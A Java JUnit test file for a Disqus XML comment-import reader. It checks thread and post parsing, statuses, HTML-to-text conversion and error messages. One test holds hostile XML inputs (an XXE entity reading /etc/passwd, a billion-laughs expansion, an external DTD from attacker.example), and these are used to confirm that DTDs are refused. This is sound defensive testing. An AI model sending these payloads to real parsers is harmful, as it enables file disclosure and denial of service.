package com.newsroom.comments.migration;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import com.newsroom.comments.comment.CommentStatus;

class DisqusReaderTest {

    static RecordingSink read(String xml, DisqusReader.ArticleIdChoice choice) throws Exception {
        RecordingSink sink = new RecordingSink();
        new DisqusReader(choice).read(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)), sink);
        return sink;
    }

    @Test
    void readsThreadsPostsStatusesAndTextExactly() throws Exception {
        RecordingSink sink = read(Fixtures.read("disqus.xml", "d1"), DisqusReader.ArticleIdChoice.IDENTIFIER);

        assertEquals(List.of("disqus:d1-news"), sink.sources);
        assertEquals(Map.of("d1-budget-2026", false, "d1.news.example-2026-12-elections", false, "d1-closed-story", true),
                sink.articles, "a thread without identifier by its link");
        assertEquals(List.of("9000001", "9000003", "9000002", "9000004", "9000005", "9000006", "9000007"),
                List.copyOf(sink.comments.keySet()));
        assertEquals(List.of(), sink.errors);

        SourceComment first = sink.comments.get("9000001");
        assertEquals("d1-budget-2026", first.articleId());
        assertEquals("Hamdi Fırat Büyük", first.name());
        assertEquals("hamdi@example.com", first.email());
        assertEquals("203.0.113.7", first.ipAddress());
        assertEquals("Teşekkürler! Bold & <script>alert(1)</script> stays as text 😀\n\nSecond line\nthird line", first.text());
        assertEquals(Instant.parse("2019-03-04T12:34:56Z"), first.createdAt());
        assertNull(first.parentId());
        assertEquals(CommentStatus.APPROVED, first.status());

        SourceComment early = sink.comments.get("9000003");
        assertEquals("9000002", early.parentId(), "a reply that comes before its parent");
        assertEquals("Replying before my parent appears: fish (https://example.org/fish) & chips <3 🐟", early.text());
        assertEquals(Instant.parse("2019-03-05T10:00:00Z"), early.createdAt(), "no offset: UTC");
        assertNull(early.email());
        assertEquals("شكرا جزيلا على هذا التقرير", sink.comments.get("9000002").text());
        assertEquals("2001:db8::1", sink.comments.get("9000002").ipAddress());

        assertEquals(CommentStatus.SPAM, sink.comments.get("9000004").status());
        assertEquals("Cheap watches at http://spam.example", sink.comments.get("9000004").text());
        assertEquals(CommentStatus.REJECTED, sink.comments.get("9000005").status(), "deleted");
        assertEquals("9000005", sink.comments.get("9000006").parentId(), "a reply to a deleted post keeps its thread");
        assertEquals("quiet_one", sink.comments.get("9000007").name(), "no name: the username");
        assertEquals("Old news \u2014 still true\u00a0\u2026", sink.comments.get("9000007").text());
    }

    @Test
    void takesArticleIdsFromLinksWhenAsked() throws Exception {
        RecordingSink sink = read(Fixtures.read("disqus.xml", "d2"), DisqusReader.ArticleIdChoice.LINK);
        assertEquals(List.of("d2.news.example-2026-12-budget-2026", "d2.news.example-2026-12-elections",
                "d2.news.example-2026-11-closed-story"), List.copyOf(sink.articles.keySet()));
        assertEquals(DisqusReader.ArticleIdChoice.LINK, DisqusReader.ArticleIdChoice.parse(" Link "));
        assertNull(DisqusReader.ArticleIdChoice.parse("slug"));
    }

    @Test
    void postsRefersToThreadsByIdentifierTooAndUnknownThreadsAreErrors() throws Exception {
        String xml = """
                <disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals">
                <thread dsq:id="1"><id>story</id><forum>f</forum><link>https://x.example/story</link></thread>
                <thread dsq:id="2"><id/><forum>f</forum><link/></thread>
                <post dsq:id="10"><message>plain text</message><thread>story</thread><createdAt>2012-12-12T12:12:12</createdAt>
                <author><name>Baz</name></author></post>
                <post dsq:id="11"><message>lost</message><thread dsq:id="99"/><createdAt>2012-12-12T12:12:12</createdAt></post>
                <post dsq:id="12"><message>no article</message><thread dsq:id="2"/><createdAt>2012-12-12T12:12:12</createdAt></post>
                <post dsq:id="13"><message>no date</message><thread dsq:id="1"/></post>
                <post><id/><message>no id</message><thread dsq:id="1"/><createdAt>2012-12-12T12:12:12</createdAt></post>
                </disqus>""";
        RecordingSink sink = read(xml, DisqusReader.ArticleIdChoice.IDENTIFIER);
        assertEquals(List.of("10"), List.copyOf(sink.comments.keySet()));
        assertEquals("story", sink.comments.get("10").articleId());
        assertEquals("plain text", sink.comments.get("10").text());
        assertEquals(4, sink.errors.size(), sink.errors.toString());
        assertTrue(sink.errors.get(0).startsWith("3: Thread 2 has no identifier"), sink.errors.get(0));
        assertTrue(sink.errors.get(1).contains("Post 11: its thread is not in the file"), sink.errors.get(1));
        assertTrue(sink.errors.get(2).contains("Post 13: no valid createdAt"), sink.errors.get(2));
        assertTrue(sink.errors.get(3).contains("without dsq:id or id"), sink.errors.get(3));
    }

    @Test
    void refusesWhatIsNotAWellFormedDisqusExport() {
        String xml = Fixtures.read("disqus.xml", "d3");
        assertFails(xml.substring(0, xml.length() / 2), "well-formed");
        assertFails(xml.replace("xmlns=\"http://disqus.com\"", "xmlns=\"http://example.com\""), "namespace");
        assertFails("{\"not\": \"xml\"}", "well-formed");
        assertFails("<rss version=\"2.0\"><channel/></rss>", "<disqus>");
        assertFails(xml + "<disqus/>", "well-formed");
        assertFails("", "well-formed");
    }

    @Test
    void readsNoEntityOfTheFilesOwn() {
        assertFails("""
                <?xml version="1.0"?>
                <!DOCTYPE disqus [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
                <disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals">
                <thread dsq:id="1"><id>x</id></thread>
                <post dsq:id="2"><message>&xxe;</message><thread dsq:id="1"/><createdAt>2012-12-12T12:12:12Z</createdAt></post>
                </disqus>""", "DTD");
        assertFails("""
                <?xml version="1.0"?>
                <!DOCTYPE disqus [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
                <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]>
                <disqus xmlns="http://disqus.com"><post><message>&lol2;</message></post></disqus>""", "DTD");
        assertFails("""
                <?xml version="1.0"?>
                <!DOCTYPE disqus SYSTEM "http://attacker.example/evil.dtd">
                <disqus xmlns="http://disqus.com"/>""", "DTD");
        assertFails("""
                <disqus xmlns="http://disqus.com"><post><message>&nbsp;</message></post></disqus>""", "well-formed");
    }

    @Test
    void turnsHtmlIntoTheTextReadersWrote() {
        assertEquals("a < b & c > d \"q\" 'a' é €", DisqusReader.text("a &lt; b &amp; c &gt; d &quot;q&quot; &#39;a&#39; &#233; &#x20AC;"));
        assertEquals("one\n\ntwo\nthree", DisqusReader.text("<p>one</p><p>two<br/>three</p>"));
        assertEquals("see https://a.example/x", DisqusReader.text("see <a href=\"https://a.example/x\" rel=\"nofollow\">https://a.example/x</a>"));
        assertEquals("&unknown; &#0; stays", DisqusReader.text("&unknown; &#0; stays"));
        assertEquals("x", DisqusReader.text("<blockquote><i>x</i></blockquote>"));
    }

    @Test
    void theReadmesSampleImportsAsTyped() throws Exception {
        String readme = java.nio.file.Files.readString(java.nio.file.Path.of("README.md"));
        int start = readme.indexOf("cat > disqus-sample.xml <<'XML'\n");
        String xml = readme.substring(readme.indexOf('\n', start) + 1, readme.indexOf("\nXML\n", start));
        RecordingSink sink = read(xml, DisqusReader.ArticleIdChoice.IDENTIFIER);
        assertEquals(List.of(), sink.errors);
        assertEquals(Map.of("budget-2026", false), sink.articles);
        assertEquals("Thanks & well done!", sink.comments.get("9000001").text());
        assertEquals("9000001", sink.comments.get("9000002").parentId());
    }

    private static void assertFails(String xml, String expected) {
        ImportFailure failure = assertThrows(ImportFailure.class, () -> read(xml, DisqusReader.ArticleIdChoice.IDENTIFIER));
        assertTrue(failure.getMessage().contains(expected), failure.getMessage());
    }
}
